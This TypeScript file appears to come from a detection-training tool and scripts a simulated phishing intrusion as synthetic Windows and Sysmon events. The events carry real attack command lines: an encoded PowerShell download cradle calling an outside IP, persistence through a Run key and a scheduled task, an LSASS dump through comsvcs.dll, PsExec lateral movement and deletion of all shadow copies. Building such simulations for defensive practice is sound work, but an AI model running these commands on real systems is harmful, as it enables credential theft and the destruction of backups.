import type { Intrusion } from './intrusion.ts';
import { office, workstations } from './office.ts';
import { starterRules } from './starter-rule-ids.ts';
import { domainAccount, processStart, securityEvent, sysmonEvent } from './windows-events.ts';

const victim = workstations[6] ?? { name: '', address: '', user: '' };
const user = domainAccount(victim.user);
const administrator = domainAccount(office.administrator);
const system = 'NT AUTHORITY\\SYSTEM';
const system32 = 'C:\\Windows\\System32\\';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const implant = 'C:\\Users\\Public\\svc.exe';
/** `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')` in UTF-16LE. */
const encoded = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')",
  'utf16le',
).toString('base64');

/** A document in a mail ends in deleted backups on the file server. */
export const phishingIntrusion: Intrusion = {
  title: 'Phishing document to destroyed backups',
  startsBefore: 3000,
  steps: [
    {
      title: `${victim.user} opened a document that started PowerShell`,
      technique: 'T1204.002',
      after: 0,
      rule: starterRules.officeSpawnsShell,
      about: victim.name,
      events: (_, time) => [
        processStart(victim, time, {
          image: powershell,
          commandLine: 'powershell.exe -nop -w hidden -file C:\\Users\\Public\\r.ps1',
          parent: word,
          user,
          processId: 7312,
          parentId: 5120,
        }),
      ],
    },
    {
      title: 'PowerShell ran an encoded command that fetched more code',
      technique: 'T1059.001',
      after: 4,
      rule: starterRules.powershellEncoded,
      about: victim.name,
      events: (_, time) => [
        processStart(victim, time, {
          image: powershell,
          commandLine: `powershell.exe -nop -w hidden -enc ${encoded}`,
          parent: powershell,
          user,
          processId: 7344,
          parentId: 7312,
        }),
        sysmonEvent(victim, time + 900, 11, {
          ProcessId: '7344',
          Image: powershell,
          TargetFilename: implant,
          CreationUtcTime: new Date(time).toISOString().replace('T', ' ').replace('Z', ''),
          User: user,
        }),
      ],
    },
    {
      title: 'A Run key was set to start the implant at every log-on',
      technique: 'T1547.001',
      after: 31,
      rule: starterRules.runKey,
      about: victim.name,
      events: (_, time) => [
        sysmonEvent(victim, time, 13, {
          EventType: 'SetValue',
          ProcessId: '7344',
          Image: powershell,
          TargetObject:
            'HKU\\S-1-5-21-1004-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync',
          Details: implant,
          User: user,
        }),
      ],
    },
    {
      title: 'A scheduled task was made as a second way back',
      technique: 'T1053.005',
      after: 48,
      rule: starterRules.scheduledTask,
      about: victim.name,
      events: (_, time) => [
        processStart(victim, time, {
          image: `${system32}schtasks.exe`,
          commandLine: `schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Sync" /tr ${implant} /f`,
          parent: powershell,
          user,
          processId: 7420,
          parentId: 7344,
        }),
      ],
    },
    {
      title: 'The members of the domain administrators group were listed',
      technique: 'T1069.002',
      after: 140,
      rule: starterRules.groupDiscovery,
      about: victim.name,
      events: (_, time) => [
        processStart(victim, time, {
          image: `${system32}net.exe`,
          commandLine: 'net group "Domain Admins" /domain',
          parent: implant,
          user,
          processId: 7502,
          parentId: 7460,
        }),
      ],
    },
    {
      title: 'The memory of LSASS was written to a file',
      technique: 'T1003.001',
      after: 320,
      rule: starterRules.comsvcsDump,
      about: victim.name,
      events: (_, time) => [
        processStart(victim, time, {
          image: `${system32}rundll32.exe`,
          commandLine: `rundll32.exe ${system32}comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full`,
          parent: implant,
          user,
          processId: 7610,
          parentId: 7460,
        }),
      ],
    },
    {
      title: 'LSASS was opened with the rights to read its memory',
      technique: 'T1003.001',
      after: 321,
      rule: starterRules.lsassRead,
      about: victim.name,
      events: (_, time) => [
        sysmonEvent(victim, time, 10, {
          SourceProcessId: '7610',
          SourceImage: `${system32}rundll32.exe`,
          TargetProcessId: '640',
          TargetImage: `${system32}lsass.exe`,
          GrantedAccess: '0x1FFFFF',
          CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9fdb4|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6dce',
          SourceUser: user,
          TargetUser: system,
        }),
      ],
    },
    {
      title: `PsExec was copied to ${office.fileServer.name} with the account ${office.administrator}`,
      technique: 'T1570',
      after: 600,
      rule: starterRules.adminShareExecutable,
      about: office.fileServer.name,
      events: (_, time) => [
        securityEvent(office.fileServer, time, 5145, {
          SubjectUserName: office.administrator,
          SubjectDomainName: office.domain,
          ObjectType: 'File',
          IpAddress: victim.address,
          IpPort: '50544',
          ShareName: '\\\\*\\ADMIN$',
          ShareLocalPath: '\\??\\C:\\Windows',
          RelativeTargetName: 'PSEXESVC.exe',
          AccessMask: '0x120196',
        }),
      ],
    },
    {
      title: 'Its service was installed on the file server',
      technique: 'T1543.003',
      after: 602,
      rule: starterRules.remoteService,
      about: office.fileServer.name,
      events: (_, time) => [
        securityEvent(office.fileServer, time, 4697, {
          SubjectUserName: office.administrator,
          SubjectDomainName: office.domain,
          ServiceName: 'PSEXESVC',
          ServiceFileName: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: '0x10',
          ServiceStartType: '3',
          ServiceAccount: 'LocalSystem',
        }),
      ],
    },
    {
      title: 'A command was run there through the service',
      technique: 'T1569.002',
      after: 604,
      rule: starterRules.psexecChild,
      about: office.fileServer.name,
      events: (_, time) => [
        processStart(office.fileServer, time, {
          image: `${system32}cmd.exe`,
          commandLine: 'cmd.exe /c whoami /all',
          parent: 'C:\\Windows\\PSEXESVC.exe',
          user: administrator,
          processId: 3120,
          parentId: 3004,
        }),
      ],
    },
    {
      title: 'All shadow copies of the file server were deleted',
      technique: 'T1490',
      after: 780,
      rule: starterRules.shadowCopiesDeleted,
      about: office.fileServer.name,
      events: (_, time) => [
        processStart(office.fileServer, time, {
          image: `${system32}vssadmin.exe`,
          commandLine: 'vssadmin.exe delete shadows /all /quiet',
          parent: `${system32}cmd.exe`,
          user: administrator,
          processId: 3210,
          parentId: 3120,
        }),
      ],
    },
  ],
};
